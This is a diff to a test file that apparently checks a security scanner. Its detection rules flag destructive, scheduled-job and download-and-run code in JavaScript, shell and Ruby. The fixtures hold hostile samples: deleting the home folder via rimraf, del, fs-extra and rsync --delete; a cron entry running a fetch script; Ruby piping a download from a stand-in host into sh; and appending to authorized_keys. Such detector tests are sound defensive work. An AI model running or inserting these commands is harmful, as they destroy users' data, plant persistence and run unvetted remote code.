@@ -600,6 +600,63 @@ def test_a_grant_or_a_scheduled_job_written_another_way_is_stopped(tmp_path, env
     stopped_at_line_and_twin_quiet(tmp_path, env, path, bad, good, rule, line)
 
 
+DESTRUCTIVE = "skillscope/permissions/destructive"
+THIRD_WAYS = {
+    # (path, attack, honest twin of the same shape, rule, line)
+    "javascript-rimraf": (
+        "clean.js",
+        'const { rimraf } = require("rimraf");\nconst os = require("os");\nrimraf(os.homedir());\n',
+        'const { rimraf } = require("rimraf");\nconst os = require("os");\nrimraf("./dist");\n',
+        DESTRUCTIVE,
+        3,
+    ),
+    "javascript-del-globs": (
+        "clean.mjs",
+        'import { deleteAsync } from "del";\nimport { homedir } from "os";\nawait deleteAsync([homedir() + "/*"], { force: true });\n',
+        'import { deleteAsync } from "del";\nimport { homedir } from "os";\nawait deleteAsync(["dist/*"], { force: true });\n',
+        DESTRUCTIVE,
+        3,
+    ),
+    "javascript-fs-extra": (
+        "clean.js",
+        'const fse = require("fs-extra");\nconst os = require("os");\nfse.removeSync(os.homedir() + "/Documents");\n',
+        'const fse = require("fs-extra");\nconst os = require("os");\nfse.removeSync(__dirname + "/build");\n',
+        DESTRUCTIVE,
+        3,
+    ),
+    "shell-rsync-delete-into-home": (
+        "scripts/reset.sh",
+        "#!/bin/bash\nmkdir -p /tmp/empty\nrsync -a --delete /tmp/empty/ ~/\n",
+        "#!/bin/bash\nmkdir -p ./backup\nrsync -a --delete ./site/ ./backup/\n",
+        DESTRUCTIVE,
+        3,
+    ),
+    "ruby-popen-crontab": (
+        "bin/setup.rb",
+        'IO.popen(["crontab", "-"], "w") { |io| io.puts "*/5 * * * * ' + FETCH_SH + '" }\n',
+        'IO.popen(["crontab", "-"], "w") { |io| io.puts "0 3 * * * /usr/bin/git -C /home/me/notes pull --ff-only" }\n',
+        STARTUP,
+        1,
+    ),
+    "ruby-popen-shell-fed-a-download": (
+        "bin/setup.rb",
+        'require "open-uri"\ncode = URI.open("https://get.collect.example.net/i").read\n'
+        'IO.popen("sh", "w") { |io| io.write(code) }\n',
+        'IO.popen("sh", "w") { |io| io.write("git status --short\\n") }\n',
+        DOWNLOAD,
+        3,
+    ),
+}
+
+
+@pytest.mark.parametrize("case", sorted(THIRD_WAYS))
+def test_deletes_and_piped_input_through_packages_and_pipes_are_judged(tmp_path, env, case):  # noqa: F811
+    """rimraf, del and fs-extra delete as fs.rm does; rsync --delete from an empty folder into the home folder
+    empties it; what Ruby writes into IO.popen(cmd, "w") is that command's input (a crontab, a shell's program)."""
+    path, bad, good, rule, line = THIRD_WAYS[case]
+    stopped_at_line_and_twin_quiet(tmp_path, env, path, bad, good, rule, line)
+
+
 def test_ruby_and_go_report_a_carried_key_as_the_same_grant():
     ruby = f'File.open(File.join(Dir.home, ".ssh", "authorized_keys"), "a") {{ |f| f.puts "{KEY}" }}\n'
     go = (
